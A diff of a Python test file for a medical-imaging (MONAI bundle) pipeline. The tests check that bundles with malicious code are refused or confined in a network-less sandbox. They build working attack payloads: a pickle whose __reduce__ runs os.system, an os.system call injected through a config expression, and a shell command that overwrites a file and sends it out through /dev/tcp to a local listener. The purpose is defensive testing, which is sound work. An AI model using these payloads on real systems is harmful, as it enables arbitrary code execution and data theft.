@@ -7,6 +7,7 @@ import json
 import os
 import socket
 import threading
+from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
 
@@ -23,7 +24,7 @@ from pipelines.monai_bundle.in_box import IN_BOX
 from pipelines.monai_bundle.pipeline_settings import MonaiBundleSettings
 from tests.needs import need_a_box
 from tests.pipelines.monai_bundle.configured import pipeline, settings, study_of
-from tests.pipelines.monai_bundle.made_bundles import threshold_bundle
+from tests.pipelines.monai_bundle.made_bundles import threshold_bundle, threshold_weights
 from tests.pipelines.monai_bundle.oblique_series import write_body
 from tests.pipelines.monai_bundle.test_pipeline import dice, mask_of
 
@@ -45,17 +46,6 @@ def of_code(folder: Path, **parts: Any) -> Path:
     return made
 
 
-def test_a_bundle_with_code_of_its_own_gives_what_it_computes(tmp_path: Path) -> None:
-    need_a_box()
-    paths, mask = write_body(tmp_path / "study")
-    bundle = of_code(tmp_path / "bundle")
-    with pytest.raises(BundleError, match=r"scripts\.mine\.Inferer is not on the list"):
-        pipeline(settings(bundle)).load()
-    result = pipeline(settings(bundle, trust="code")).run(study_of(paths))
-    assert dice(mask_of(result), mask) > 0.97
-    assert "The bundle ran its own code, in a box without network." in result.limits
-
-
 class Listener:
     """A server on this machine that notes who connects."""
 
@@ -75,12 +65,34 @@ class Listener:
         self._socket.close()
 
 
-def attack(mark: Path, port: int) -> str:
-    """What malicious code does: touches a file, writes over one, and calls home."""
+ATTACKER = """
+import os
+
+os.system({command!r})
+
+
+class Inferer:
+    def __init__(self, told=None):
+        pass
+
+    def __call__(self, inputs, network):
+        for way in {ways}:
+            assert os.path.exists(f"/tmp/{{way}}_was_here"), f"the attack by {{way}} did not take place"
+        return network(inputs)
+"""
+WAYS = ("expression", "pickle", "script")
+
+
+def attack(folder: Path, way: str, port: int) -> str:
+    """What malicious code does: touches files, writes over one, and calls home."""
     return (
-        f"touch {mark} /usr/was_here /tmp/was_here; echo changed > {mark.parent}/precious; "
-        f"cat {mark.parent}/precious > /dev/tcp/127.0.0.1/{port}"
+        f"touch {folder}/{way} /usr/{way}_was_here /tmp/{way}_was_here; echo {way} > {folder}/precious; "
+        f"cat {folder}/precious > /dev/tcp/127.0.0.1/{port}"
     )
+
+
+def in_a_shell(command: str) -> str:
+    return f'bash -c "{command}"'
 
 
 class Malicious:
@@ -90,50 +102,58 @@ class Malicious:
         self._command = command
 
     def __reduce__(self) -> tuple[object, tuple[str]]:
-        return os.system, (f'bash -c "{self._command}"',)
+        return os.system, (in_a_shell(self._command),)
 
 
-@pytest.mark.parametrize("way", ["expression", "pickle", "script"])
-def test_malicious_code_is_refused_when_declarative_and_reaches_nothing_in_the_box(tmp_path: Path, way: str) -> None:
+def attacking(folder: Path, attacks: Mapping[str, str]) -> Path:
+    """A bundle that attacks in these ways, and then does its work, if all attacks took place."""
+    inferer: dict[str, Any] = {"_target_": "scripts.mine.Inferer" if "script" in attacks else "SimpleInferer"}
+    if "expression" in attacks:
+        inferer["told"] = f"$__import__('os').system({in_a_shell(attacks['expression'])!r})"
+    made = threshold_bundle(folder, inferer=inferer)
+    if "pickle" in attacks:
+        torch.save({"model": threshold_weights(), "more": Malicious(attacks["pickle"])}, made / "models" / "model.pt")
+    if "script" in attacks:
+        (made / "scripts").mkdir()
+        (made / "scripts" / "__init__.py").touch()
+        command = in_a_shell(attacks["script"])
+        (made / "scripts" / "mine.py").write_text(ATTACKER.format(command=command, ways=tuple(attacks)))
+    return made
+
+
+@pytest.mark.parametrize(
+    ("way", "why"),
+    [("expression", "not understood"), ("pickle", "holds more than tensors"), ("script", "not on the list")],
+)
+def test_malicious_code_is_refused_when_declarative(tmp_path: Path, way: str, why: str) -> None:
+    bundle = attacking(tmp_path / "bundle", {way: f"touch {tmp_path}/was_here"})
+    with pytest.raises(BundleError, match=why):
+        pipeline(settings(bundle)).load()
+    assert not (tmp_path / "was_here").exists()
+
+
+def test_malicious_code_in_the_box_reaches_nothing_and_its_bundle_gives_what_it_computes(tmp_path: Path) -> None:
     need_a_box()
     listener = Listener()
-    mark, precious = tmp_path / "was_here", tmp_path / "precious"
-    precious.write_text("precious")
-    command = attack(mark, listener.port)
-    parts: dict[str, Any] = {}
-    if way == "expression":
-        parts["network_def"] = f"$[__import__('os').system('bash -c \"{command}\"'), None][1]"
-    bundle = (
-        of_code(tmp_path / "bundle", **parts) if way == "script" else threshold_bundle(tmp_path / "bundle", **parts)
-    )
-    if way == "pickle":
-        torch.save({"model": Malicious(command)}, bundle / "models" / "model.pt")
-    if way == "script":
-        (bundle / "scripts" / "mine.py").write_text(
-            f"import os\nos.system({f'bash -c {chr(34)}{command}{chr(34)}'!r})\n{SCRIPT}"
-        )
-    with pytest.raises(BundleError, match=r"not understood|holds more than tensors|not on the list"):
-        pipeline(settings(bundle)).load()
-    assert not mark.exists()
-
-    paths, _ = write_body(tmp_path / "study")
-    trusted = pipeline(settings(bundle, trust="code"))
-    if way == "script":  # it attacks, and then does its work
-        trusted.run(study_of(paths))
-    else:
-        with pytest.raises(UnsuitableInput, match="own code ended with exit code"):
-            trusted.run(study_of(paths))
-    assert not mark.exists()
-    assert precious.read_text() == "precious"
-    assert not Path("/usr/was_here").exists()
+    (tmp_path / "precious").write_text("precious")
+    attacks = {way: attack(tmp_path, way, listener.port) for way in WAYS}
+    paths, mask = write_body(tmp_path / "study")
+    result = pipeline(settings(attacking(tmp_path / "bundle", attacks), trust="code")).run(study_of(paths))
+    assert dice(mask_of(result), mask) > 0.97
+    assert "The bundle ran its own code, in a box without network." in result.limits
+    assert (tmp_path / "precious").read_text() == "precious"
     assert not listener.connected.is_set()
-    os.system(f'bash -c "{command}" 2> /dev/null')  # outside of a box it does all that
-    assert mark.exists()
-    assert precious.read_text() == "changed\n"
+    for way, command in attacks.items():
+        assert not (tmp_path / way).exists()
+        assert not Path(f"/usr/{way}_was_here").exists()
+        assert not Path(f"/tmp/{way}_was_here").exists()
+        os.system(f"{in_a_shell(command)} 2> /dev/null")  # outside of a box it does all that
+        assert (tmp_path / way).exists()
+        assert (tmp_path / "precious").read_text() == f"{way}\n"
+        for left in (f"/usr/{way}_was_here", f"/tmp/{way}_was_here"):
+            Path(left).unlink(missing_ok=True)
     assert listener.connected.wait(10)
     listener.close()
-    for left in ("/usr/was_here", "/tmp/was_here"):
-        Path(left).unlink(missing_ok=True)
 
 
 def test_where_there_is_no_box_it_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -143,6 +163,20 @@ def test_where_there_is_no_box_it_is_refused(tmp_path: Path, monkeypatch: pytest
         BundleError, match=r"needs a box .* for bubblewrap \(bwrap\) is not installed; install Debian's"
     ):
         ConfinedRunner(BundleFolder(bundle), MonaiBundleSettings(**settings(bundle, trust="code")))
+
+
+def test_an_interpreter_that_is_not_there_or_lacks_a_package_is_named(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(IN_BOX, "1")
+    paths, _ = write_body(tmp_path / "study")
+    entry = settings(of_code(tmp_path / "bundle"), trust="code", python=str(tmp_path / "python"))
+    with pytest.raises(BundleError, match="python is no program that this account may run"):
+        pipeline(entry).run(study_of(paths))
+    (tmp_path / "python").write_text("#!/bin/sh\necho \"ModuleNotFoundError: No module named 'monai'\" >&2\nexit 1\n")
+    (tmp_path / "python").chmod(0o700)
+    with pytest.raises(BundleError, match=r"python lacks what the bundle needs: .* named 'monai'; install it there"):
+        pipeline(entry).run(study_of(paths))
 
 
 def test_a_worker_in_a_box_of_the_node_needs_no_other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -164,6 +198,20 @@ def test_what_is_no_array_of_numbers_is_not_taken(tmp_path: Path, content: objec
         np.save(path, array, allow_pickle=True)
     with pytest.raises(UnsuitableInput, match="left no values that can be read"):
         confined._array(path)
+
+
+def test_a_pipe_in_place_of_an_array_is_not_waited_for(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "values.npy")
+    with pytest.raises(UnsuitableInput, match="left no values that can be read"):
+        confined._array(tmp_path / "values.npy")
+
+
+def test_an_array_that_claims_to_be_larger_than_memory_is_not_taken(tmp_path: Path) -> None:
+    with (tmp_path / "values.npy").open("wb") as file:
+        header = {"descr": "<f8", "fortran_order": False, "shape": (2**40, 2**10)}
+        np.lib.format.write_array_header_1_0(file, header)
+    with pytest.raises(UnsuitableInput, match="left no values that can be read"):
+        confined._array(tmp_path / "values.npy")
 
 
 def test_the_box_holds_what_it_is_given_and_nothing_else(tmp_path: Path) -> None:
